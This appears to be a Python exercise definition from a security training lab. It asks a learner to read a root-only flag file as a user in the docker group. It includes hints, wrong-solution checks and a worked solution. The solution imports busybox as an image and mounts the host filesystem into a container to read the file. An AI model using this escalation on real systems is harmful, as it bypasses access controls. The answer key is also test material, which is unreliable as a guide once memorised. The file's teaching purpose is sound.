"""Read root's file on a worker, as a member of the group docker."""

from __future__ import annotations

from labkit.workshop.definition import Exercise, Hint, Outcome, WrongSolution
from labkit.workshop.edited import EditedLab
from labkit.workshop.flags import check_flag

__all__ = ["EXERCISE"]

NAME = "worker-1"
#: A reset of the lab deletes it, as every file that was added to /etc/docker.
FILE = "/etc/docker/flag"


def plant(lab: EditedLab, flag: str) -> None:
    """Write the flag to a file of worker1 that only root can read."""
    lab.write_file("worker1", FILE, flag.encode(), 0o600)


def check(lab: EditedLab, answer: object) -> Outcome:
    """Compare the answer with the flag."""
    return check_flag(lab, NAME, answer)


EXERCISE = Exercise(
    name=NAME,
    title="bob has no password of root",
    notebook="04-worker",
    kind="attack",
    mode="insecure",
    task=f"""
bob is an ordinary user on worker1, and a member of the group `docker`. Only root can read the file
`{FILE}` there. Read it as bob, and set `answer` to its content.

`insecure.exec("worker1", [...], user="bob")` runs a command as bob. There is no image to start
from, and no registry: bob has to make one from what the machine has, such as `/usr/bin/busybox`.
""",
    hints=(
        Hint("A container may mount any folder of the machine, and root is root in it."),
        Hint("tar of a program, piped into docker import, is an image."),
        Hint("docker's client wants a home folder that it may read: env HOME=/nonexistent."),
    ),
    check=check,
    solution=f'''
steps = """
export HOME=/nonexistent
tar --directory=/ --create usr/bin/busybox | docker import - bob/box >/dev/null
docker run --rm --volume=/:/machine:ro bob/box /usr/bin/busybox cat /machine{FILE}
docker rmi --force bob/box >/dev/null
"""
answer = insecure.exec("worker1", ["sh", "-c", steps], user="bob").text
''',
    wrong=(
        WrongSolution(
            "bob reads the file himself",
            f'answer = insecure.exec("worker1", ["cat", "{FILE}"], user="bob", check=False).text',
            "no-answer",
            "there is no answer",
        ),
        WrongSolution(
            "the name of the file",
            f'answer = "{FILE}"',
            "wrong-answer",
            "not the flag of worker-1 in this lab",
        ),
    ),
    techniques=("docker-group",),
    plant=plant,
)
